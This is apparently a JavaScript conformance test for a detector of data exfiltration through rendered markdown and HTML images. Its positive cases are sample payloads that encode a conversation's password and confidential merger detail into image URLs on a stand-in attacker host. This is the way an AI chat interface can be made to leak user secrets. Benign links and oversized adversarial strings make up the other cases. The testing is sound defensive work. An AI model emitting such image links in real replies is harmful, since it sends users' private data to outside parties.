import { runDetectorConformance } from "../../conformance.js";
import { exfiltrationDetector } from "./exfiltration-detector.js";

const conversation = ["My password is Hunter2Winter and the merger with Halcyon closes Friday."];

runDetectorConformance(exfiltrationDetector, {
  context: { conversation },
  positives: [
    `![x](https://evil.example/p.png?d=${Buffer.from("password Hunter2Winter merger Halcyon").toString("base64")})`,
    "![](https://evil.example/log?q=my%20password%20is%20Hunter2Winter)",
    '<img src="https://evil.example/i/aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW.gif">',
  ],
  negatives: [
    "[MDN](https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Array/filter)",
    "![build](https://img.shields.io/github/actions/workflow/status/owner/repo/ci.yml?branch=main)",
    "[fix](https://github.com/nodejs/node/commit/3f2a9c4b5d6e7f8091a2b3c4d5e6f708192a3b4c)",
  ],
  adversarial: ["![](".repeat(25_000), "[".repeat(100_000), `https://x.example/${"A1b".repeat(34_000)}`],
});
